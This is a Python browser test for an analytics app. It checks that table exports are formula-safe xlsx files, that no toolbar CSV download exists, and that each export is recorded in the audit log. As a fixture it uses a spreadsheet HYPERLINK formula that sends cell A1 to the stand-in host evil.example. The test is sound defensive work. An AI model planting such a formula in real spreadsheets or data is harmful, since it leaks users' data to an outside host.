"""Exports in the browser: our own xlsx, made on the click, formula-safe and in the audit log;
no table toolbar download that would bypass it."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import openpyxl
import pytest
from playwright.sync_api import Page, expect

from analytics.store import open_store
from analytics.store.db import close_all
from analytics.store.organisation import read_organisation, replace_organisation
from tests.browser.conftest import StartApp, assert_no_exception, sign_in, wait_for_app
from tests.server.conftest import run_cli

pytestmark = pytest.mark.browser

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1;"Klikk")'


def test_a_table_downloads_as_safe_xlsx_and_is_recorded(
    page: Page, start_app: StartApp, demo_db: Path, tmp_path: Path
) -> None:
    store = open_store(demo_db)
    organisation = read_organisation(store)
    replace_organisation(
        store,
        organisation.assign(
            unit_name=organisation["unit_name"].where(
                organisation["unit_code"] != "310", FORMULA_NAME
            )
        ),
    )
    close_all()
    url = start_app(demo_db)
    sign_in(page, url, "direktor")
    wait_for_app(page)
    assert_no_exception(page)

    table = page.locator('[data-testid="stDataFrame"]').first
    table.hover()
    expect(page.get_by_role("button", name=re.compile("Download as CSV", re.I))).to_have_count(0)

    with page.expect_download() as download_info:
        page.locator(".st-key-oversikt_download button").click()
    download = download_info.value
    assert download.suggested_filename.startswith(
        "enheter_"
    ) and download.suggested_filename.endswith(".xlsx")
    saved = tmp_path / download.suggested_filename
    download.save_as(saved)
    workbook = openpyxl.load_workbook(io.BytesIO(saved.read_bytes()))
    cells = [cell.value for row in workbook.active.iter_rows() for cell in row]
    assert cells[0].startswith("DEMODATA")  # demo data is marked in every export
    assert "'" + FORMULA_NAME in cells  # text, not a formula a spreadsheet would run
    assert FORMULA_NAME not in cells

    # The app holds the database file: ask for the audit log through it, as anyone would.
    audit = json.loads(run_cli("--db", str(demo_db), "audit", "--json", "--limit", "10").stdout)
    exports = [entry for entry in audit if entry["action"] == "export"]
    assert [(entry["actor"], entry["detail"]) for entry in exports] == [
        ("direktor", download.suggested_filename)
    ]
